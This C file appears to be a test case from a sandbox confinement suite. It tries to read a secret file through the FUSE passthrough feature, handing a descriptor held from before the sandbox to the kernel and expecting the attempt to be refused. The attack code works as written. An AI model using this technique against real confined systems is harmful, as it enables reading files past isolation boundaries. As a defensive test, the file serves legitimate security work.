// SPDX-License-Identifier: GPL-3.0-or-later
/* FUSE passthrough (from 6.9): the kernel reads a descriptor from before the start for whoever opens the FUSE file. */
#include "attack.h"
#include "fuse.h"

ATTACK("attack: preopen_fuse; threat: #27; user: root-as-eve; op: read; errno: EPERM|NONE; fs: ext4; expect: refused");

/* What Debian 12's headers do not know. */
#define AT_FUSE_PASSTHROUGH  (1u << 5) /* of flags2 */
#define AT_FOPEN_PASSTHROUGH (1u << 7)
#define AT_BACKING_OPEN      _IOW(229, 1, struct backing_map)
struct backing_map {
	int32_t fd;
	uint32_t flags;
	uint64_t padding;
};

#define FILE_SIZE 2150

HOLDS_SECRET(O_RDONLY)

static void reply_init(int dev, const struct fuse_in_header *to, const struct fuse_init_in *in)
{
	struct fuse_init_out out = {
		.major = FUSE_KERNEL_VERSION,
		.minor = in->minor < 40 ? in->minor : 40,
		.max_readahead = in->max_readahead,
		.flags = FUSE_INIT_EXT,
		.flags2 = in->flags2 & AT_FUSE_PASSTHROUGH,
		.max_write = 65536,
	};

	out.unused[0] = 1; /* max_stack_depth */
	fuse_reply(dev, to, 0, &out, sizeof(out));
}

static void reply_open(int dev, const struct fuse_in_header *to)
{
	struct backing_map map = { .fd = held };
	struct fuse_open_out out = { .open_flags = AT_FOPEN_PASSTHROUGH };
	int backing = ioctl(dev, AT_BACKING_OPEN, &map);

	out.padding = (uint32_t)backing; /* backing_id */
	if (backing < 0)
		fuse_reply(dev, to, errno == EPERM ? EPERM : EOPNOTSUPP, NULL, 0);
	else
		fuse_reply(dev, to, 0, &out, sizeof(out));
}

static void answer(int dev, const struct fuse_in_header *in, const char *data)
{
	struct fuse_entry_out entry = { .nodeid = 2, .attr = fuse_attr_of(2, FILE_SIZE) };
	struct fuse_attr_out attr = { .attr = fuse_attr_of(in->nodeid, FILE_SIZE) };

	switch (in->opcode) {
	case FUSE_INIT:
		reply_init(dev, in, (const void *)data);
		break;
	case FUSE_LOOKUP:
		fuse_reply(dev, in, strcmp(data, "secret") == 0 ? 0 : ENOENT, &entry,
			   strcmp(data, "secret") == 0 ? sizeof(entry) : 0);
		break;
	case FUSE_GETATTR:
		fuse_reply(dev, in, 0, &attr, sizeof(attr));
		break;
	case FUSE_OPEN:
		reply_open(dev, in);
		break;
	case FUSE_FORGET:
	case FUSE_BATCH_FORGET:
		break; /* nobody waits */
	default:
		fuse_reply(dev, in, ENOSYS, NULL, 0);
	}
}

static int act(void)
{
	char options[64];
	int r = enter_mountns(), dev = open("/dev/fuse", O_RDWR), fd;
	pid_t pid;

	if (r || dev < 0)
		return r ?: not_here("no /dev/fuse");
	mkdir(own("fuse"), 0777);
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0", dev);
	if (mount("fuse", own("fuse"), "fuse", 0, options) < 0)
		return errno == ENODEV ? not_here("no FUSE") : broken("mount");
	pid = fork();
	if (pid == 0)
		fuse_serve(dev, answer, 30);
	close(dev);
	fd = open(own("fuse/secret"), O_RDONLY);
	/* EIO is what the kernel makes of any refusal of the file behind */
	if (fd < 0 && errno == EIO)
		r = refused_silently("open");
	else if (fd < 0)
		r = errno == EOPNOTSUPP ? not_here("no FUSE passthrough") : refused("open");
	else
		r = loot_fd(fd);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return r;
}

HELD(prepare, act)
